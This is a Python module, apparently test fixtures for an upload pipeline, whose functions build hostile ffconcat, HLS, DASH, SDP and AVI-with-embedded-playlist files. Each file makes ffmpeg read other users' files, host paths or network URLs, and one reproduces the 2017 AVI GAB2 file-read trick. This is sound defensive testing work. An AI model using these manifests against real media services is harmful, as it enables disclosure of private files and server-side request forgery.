"""Hostile references: manifests that make a demuxer open *other* files or URLs.

ffconcat, HLS, DASH, SDP, and an HLS playlist hidden in an AVI subtitle. Each
generator writes one file an uploader could send and returns its path; the
first line of its docstring says what the attack is.

`make_secret_media` is no attack: it is the host file these manifests try to
pull in, made so that it can be recognised wherever it lands (a frame of
`SECRET_RGB`, `SECRET_MARKER` in its metadata).
"""

from __future__ import annotations

import struct
from pathlib import Path

from hostile_writers import FFMPEG, run_ffmpeg, write_file

SECRET_MARKER = "HOSTILE-SECRET-7f3a9c51"
SECRET_RGB = (0x12, 0xAB, 0x34)  # no test pattern has it: a frame of it came from the secret
SECRET_SIZE = (208, 112)
SECRET_SECONDS = 2.5


# -- the host file that the reference attacks try to read -----------------------------


def make_secret_media(path: Path) -> Path:
    """Not an attack: a private file (host or another user's) that hostile manifests try to read.

    A solid `SECRET_RGB` picture of `SECRET_SIZE` with a 1234 Hz tone for
    `SECRET_SECONDS`, `SECRET_MARKER` in its metadata. The container follows
    the suffix; `.mp4` is fragmented, as DASH expects.
    """
    path.parent.mkdir(parents=True, exist_ok=True)
    width, height = SECRET_SIZE
    colour = "0x{:02X}{:02X}{:02X}".format(*SECRET_RGB)
    args = [*FFMPEG, "-f", "lavfi", "-i", f"color=c={colour}:s={width}x{height}:r=25"]
    args += ["-f", "lavfi", "-i", "sine=frequency=1234:sample_rate=48000"]
    args += ["-t", str(SECRET_SECONDS), "-c:v", "libx264", "-preset", "ultrafast"]
    args += ["-pix_fmt", "yuv420p", "-c:a", "aac", "-b:a", "64k"]
    args += ["-metadata", f"title={SECRET_MARKER}", "-metadata", f"comment={SECRET_MARKER}"]
    if path.suffix == ".ts":
        args += ["-metadata", f"service_name={SECRET_MARKER}"]
    if path.suffix == ".mp4":
        args += ["-movflags", "+frag_keyframe+empty_moov+default_base_moof"]
    run_ffmpeg([*args, str(path)])
    return path


# -- references: manifests that open other files or URLs --------------------------------


def make_ffconcat(path: Path, *entries: str) -> Path:
    """ffconcat script whose `file` lines name other files: ffmpeg plays them as this upload.

    A bare name resolves beside the script, i.e. another user's upload in the
    same uploads directory (the concat demuxer's `safe` mode refuses only
    absolute paths and odd characters, not a neighbour's name).
    """
    lines = ["ffconcat version 1.0"] + [f"file {entry}" for entry in entries]
    return write_file(path, "\n".join(lines) + "\n")


def make_hls_playlist(
    path: Path,
    *segments: str,
    key_uri: str | None = None,
    map_uri: str | None = None,
    byterange: str | None = None,
) -> Path:
    """HLS playlist (probed by content, no extension needed) whose URIs name local files or URLs.

    Segments may be absolute paths (`/srv/x.ts`), `file:` URLs, `concat:a|b`,
    `subfile,,start,0,end,0,,:path`, or http/https/tcp/udp URLs; `key_uri`
    adds `#EXT-X-KEY` (the AES key is fetched) and `map_uri` `#EXT-X-MAP`
    (the init section is fetched).
    """
    lines = ["#EXTM3U", "#EXT-X-VERSION:7", "#EXT-X-TARGETDURATION:3", "#EXT-X-MEDIA-SEQUENCE:0"]
    if key_uri is not None:
        lines.append(f'#EXT-X-KEY:METHOD=AES-128,URI="{key_uri}",IV=0x{"00" * 16}')
    if map_uri is not None:
        lines.append(f'#EXT-X-MAP:URI="{map_uri}"')
    for segment in segments:
        lines.append(f"#EXTINF:{SECRET_SECONDS},")
        if byterange is not None:
            lines.append(f"#EXT-X-BYTERANGE:{byterange}")
        lines.append(segment)
    lines.append("#EXT-X-ENDLIST")
    return write_file(path, "\n".join(lines) + "\n")


def make_hls_master(path: Path, variant: str, audio: str | None = None) -> Path:
    """HLS master playlist whose variant and `#EXT-X-MEDIA` audio URIs point elsewhere."""
    lines = ["#EXTM3U"]
    group = ""
    if audio is not None:
        lines.append(f'#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="x",DEFAULT=YES,URI="{audio}"')
        group = ',AUDIO="a"'
    lines += [f"#EXT-X-STREAM-INF:BANDWIDTH=200000{group}", variant]
    return write_file(path, "\n".join(lines) + "\n")


def make_dash_manifest(path: Path, media: str) -> Path:
    """DASH MPD (libxml2 `dash` demuxer, probed by content) whose BaseURL names a file or URL."""
    width, height = SECRET_SIZE
    mpd = f"""<?xml version="1.0" encoding="utf-8"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"
     profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"
     mediaPresentationDuration="PT{SECRET_SECONDS}S" minBufferTime="PT1S">
  <Period>
    <AdaptationSet mimeType="video/mp4">
      <Representation id="1" bandwidth="200000" width="{width}" height="{height}">
        <BaseURL>{media}</BaseURL>
      </Representation>
    </AdaptationSet>
  </Period>
</MPD>
"""
    return write_file(path, mpd)


def make_sdp(path: Path, host: str, port: int) -> Path:
    """SDP session description: the `sdp` demuxer opens RTP/UDP sockets to the address it names."""
    sdp = (
        "v=0\r\n"
        f"o=- 0 0 IN IP4 {host}\r\n"
        "s=hostile\r\n"
        f"c=IN IP4 {host}\r\n"
        "t=0 0\r\n"
        f"m=video {port} RTP/AVP 96\r\n"
        "a=rtpmap:96 H264/90000\r\n"
    )
    return write_file(path, sdp)


def _riff_chunk(fourcc: bytes, data: bytes) -> bytes:
    return fourcc + struct.pack("<I", len(data)) + data + (b"\0" if len(data) % 2 else b"")


def _riff_list(kind: bytes, body: bytes) -> bytes:
    return b"LIST" + struct.pack("<I", len(body) + 4) + kind + body


def make_avi_gab2_playlist(path: Path, playlist: str) -> Path:
    """AVI whose GAB2 subtitle chunk carries an HLS playlist (2017's "AVI + HLS + XBIN" file read).

    The AVI demuxer probes what a GAB2 chunk holds and opened any demuxer for
    it; a playlist there read local files into the video. FFmpeg >= 3.3.2
    accepts only SRT/ASS inside GAB2.
    """
    payload = playlist.encode()
    title = "hostile".encode("utf-16-le") + b"\0\0"
    gab2 = b"GAB2\0" + struct.pack("<HI", 2, len(title)) + title
    gab2 += struct.pack("<HI", 4, len(payload)) + payload
    avih = struct.pack("<14I", 40000, 0, 0, 0x10, 1, 0, 1, 0, 0, 0, 0, 0, 0, 0)
    # strh: type, handler, flags, priority, language, initial frames, scale, rate,
    # start, length, buffer size, quality, sample size, frame rectangle.
    strh = b"txts" + struct.pack(
        "<IIHHIIIIIIII4h", 0, 0, 0, 0, 0, 1, 1, 0, 1, 0, 0xFFFFFFFF, 0, 0, 0, 0, 0
    )
    strl = _riff_list(b"strl", _riff_chunk(b"strh", strh) + _riff_chunk(b"strf", b""))
    hdrl = _riff_list(b"hdrl", _riff_chunk(b"avih", avih) + strl)
    movi = _riff_list(b"movi", _riff_chunk(b"00tx", gab2))
    idx1 = _riff_chunk(b"idx1", b"00tx" + struct.pack("<III", 0x10, 4, len(gab2)))
    body = b"AVI " + hdrl + movi + idx1
    return write_file(path, b"RIFF" + struct.pack("<I", len(body)) + body)
